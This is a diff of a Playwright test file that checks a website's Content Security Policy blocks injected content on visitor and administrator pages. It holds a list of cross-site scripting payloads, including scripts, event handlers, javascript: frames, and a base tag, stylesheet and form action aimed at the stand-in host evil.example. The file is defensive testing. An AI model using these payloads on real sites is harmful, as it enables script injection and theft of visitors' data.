@@ -1,42 +1,44 @@
 /** Which scripts run: ours and those of the administrator's codes on visitors' pages, and never what got into a page. */
+import { once } from "node:events";
 import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import type { Page } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { listen } from "../../../server/listen.ts";
+import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
 import { openAdministration } from "../admin/administrator.ts";
 
 const { address, sql, visit, visitAsStranger } = openAdministration();
 
-/** What a hole in the site would let an attacker write into a page. */
-const injections = {
-  "an inline script": "<script>window.injected=1</script>",
-  "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
-  "a script of the site's own address": '<script src="/rest/v1/lyrics?apikey=antara-public"></script>',
-  "a script as data": '<script src="data:text/javascript,window.injected=1"></script>',
-  "a module": '<script type="module">window.injected=1</script>',
-  "a handler": '<img src="/favicon.svg" onload="window.injected=1"><svg onload="window.injected=1"></svg>',
-  "a frame with a script": '<iframe srcdoc="<script>parent.injected=1</script>"></iframe>',
-  "a frame with an address": '<iframe src="javascript:parent.injected=1"></iframe>',
-  "another base for all addresses": '<base href="https://evil.example/">',
-  "an object": '<object data="data:text/html,<script>parent.injected=1</script>"></object>',
-  "a form for the password":
-    '<form action="https://evil.example/"><input name=a><button id=sent>go</button></form>',
-  "a style from elsewhere":
-    '<link rel=stylesheet href="https://evil.example/x.css"><style>body{opacity:0}</style>',
-} as const;
+const ran = (what: string) => `(parent.injected??=[]).push('${what}')`;
+
+/** What a hole in the site would let an attacker write into a page; each tells that it has run. */
+const injections = [
+  `<script>${ran("an inline script")}</script>`,
+  '<script src="https://evil.example/x.js"></script>',
+  '<script src="/rest/v1/lyrics?apikey=antara-public"></script>',
+  `<script src="data:text/javascript,${ran("a script as data")}"></script>`,
+  `<script type="module">${ran("a module")}</script>`,
+  `<img src="/favicon.svg" onload="${ran("a handler")}"><svg onload="${ran("a handler of a drawing")}"></svg>`,
+  `<iframe srcdoc="<script>${ran("a frame with a script")}</script>"></iframe>`,
+  `<iframe src="javascript:${ran("a frame with an address")}"></iframe>`,
+  `<object data="data:text/html,<script>${ran("an object")}</script>"></object>`,
+  '<base href="https://evil.example/">',
+  "<style>body{opacity:0}</style><link rel='stylesheet' href='https://evil.example/x.css'>",
+].join("");
 
 /** Puts it into the page on its way to the browser; its headers stay as they are. */
-async function inject(page: Page, html: string): Promise<void> {
+async function inject(page: Page): Promise<void> {
   await page.route(
-    (url) => !url.pathname.startsWith("/assets/") && url.origin === address(),
+    (url) => url.origin === address() && !url.pathname.startsWith("/assets/"),
     async (route) => {
       if (route.request().resourceType() !== "document") return route.continue();
       const answer = await route.fetch();
-      const body = (await answer.text()).replace("</main>", `<div id="hole">${html}</div></main>`);
+      const body = (await answer.text()).replace("</body>", `${injections}</body>`);
       await route.fulfill({ response: answer, body });
     },
   );
-  await page.route(/evil\.example/, (route) => route.fulfill({ status: 200, body: "window.injected=1" }));
+  await page.route(/evil\.example/, (route) =>
+    route.fulfill({ status: 200, body: ran("a script from elsewhere") }),
+  );
 }
 
 /** What was refused, as the browser tells the page itself. */
@@ -47,35 +49,45 @@ const watchPolicy = (page: Page) =>
     addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
   });
 
+/** @returns the address of a server at another port */
+async function listen(server: Server): Promise<string> {
+  await once(server.listen(0, "127.0.0.1"), "listening");
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
 const read = (page: Page, name: string) => page.evaluate((key) => (window as never)[key] ?? null, name);
 
-for (const [where, path, open] of [
+test.each([
   ["a visitor's page", "/about-us", visitAsStranger],
   ["the administrator's settings", "/admin/settings", visit],
-] as const) {
-  describe(`written into ${where}`, () => {
-    test.each(Object.entries(injections))("%s does nothing", async (_what, html) => {
-      await open(
-        path,
-        {
-          expectFaults: true,
-          before: async (page) => {
-            await watchPolicy(page);
-            await inject(page, html);
-          },
-        },
-        async (page) => {
-          await page.locator("#hole").waitFor({ state: "attached" });
-          if (html.includes("id=sent")) await page.locator("#sent").click();
-          await expect.poll(() => read(page, "refused")).not.toEqual([]);
-          expect(await read(page, "injected")).toBeNull();
-          expect(page.url()).toBe(address() + path);
-          expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe("1");
-        },
-      );
+] as const)(
+  "whatever is written into %s, nothing of it runs, and the page is as it was",
+  async (_where, path, open) => {
+    const before = async (page: Page) => {
+      await watchPolicy(page);
+      await inject(page);
+    };
+    await open(path, { expectFaults: true, before }, async (page) => {
+      await page.evaluate(() => {
+        const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
+        document.body.append(form);
+        form.submit();
+      });
+      const all = [
+        "script-src-elem",
+        "script-src-attr",
+        "style-src-elem",
+        "base-uri",
+        "object-src",
+        "form-action",
+      ];
+      await expect.poll(() => read(page, "refused")).toEqual(expect.arrayContaining(all));
+      expect(await read(page, "injected")).toBeNull();
+      expect(page.url()).toBe(address() + path);
+      expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe("1");
     });
-  });
-}
+  },
+);
 
 describe("the codes of advertisers and of analytics", () => {
   let network: Server;
@@ -85,10 +97,11 @@ describe("the codes of advertisers and of analytics", () => {
       answer.setHeader("Content-Type", "text/javascript");
       answer.end("window.fromTheNetwork = (window.fromTheNetwork ?? 0) + 1;");
     });
-    networkAddress = await listen(network, "127.0.0.1", 0);
+    networkAddress = await listen(network);
     const code = `<script src="${networkAddress}/ad.js"></script><script>window.inlineCode = 1</script>`;
     await sql()`insert into settings (key, value) values ('analyticsCode', ${code}) on conflict (key) do update set value = excluded.value`;
-    await expect.poll(async () => (await fetch(`${address()}/about-us`)).text()).toContain("ad.js");
+    const served = async () => expect(await (await fetch(`${address()}/about-us`)).text()).toContain("ad.js");
+    await vi.waitFor(served, { timeout: 10_000 });
   });
   afterAll(() => {
     network.closeAllConnections();
@@ -96,15 +109,11 @@ describe("the codes of advertisers and of analytics", () => {
   });
 
   test("run on visitors' pages, and what is injected beside them does not", () =>
-    visitAsStranger(
-      "/about-us",
-      { expectFaults: true, before: (page) => inject(page, injections["an inline script"]) },
-      async (page) => {
-        await expect.poll(() => read(page, "fromTheNetwork")).toBe(1);
-        await expect.poll(() => read(page, "inlineCode")).toBe(1);
-        expect(await read(page, "injected")).toBeNull();
-      },
-    ));
+    visitAsStranger("/about-us", { expectFaults: true, before: inject }, async (page) => {
+      await expect.poll(() => read(page, "fromTheNetwork")).toBe(1);
+      await expect.poll(() => read(page, "inlineCode")).toBe(1);
+      expect(await read(page, "injected")).toBeNull();
+    }));
 
   test("never run in the administration, not even in its preview beside the session", () =>
     visit("/admin/settings", {}, async (page) => {
@@ -126,7 +135,7 @@ describe("another site", () => {
       answer.setHeader("Content-Type", "text/html");
       answer.end(`<title>evil</title><iframe src="${address()}${request.url}"></iframe>`);
     });
-    evilAddress = (await listen(evil, "127.0.0.1", 0)).replace("127.0.0.1", "localhost");
+    evilAddress = (await listen(evil)).replace("127.0.0.1", "localhost");
   });
   afterAll(() => {
     evil.closeAllConnections();
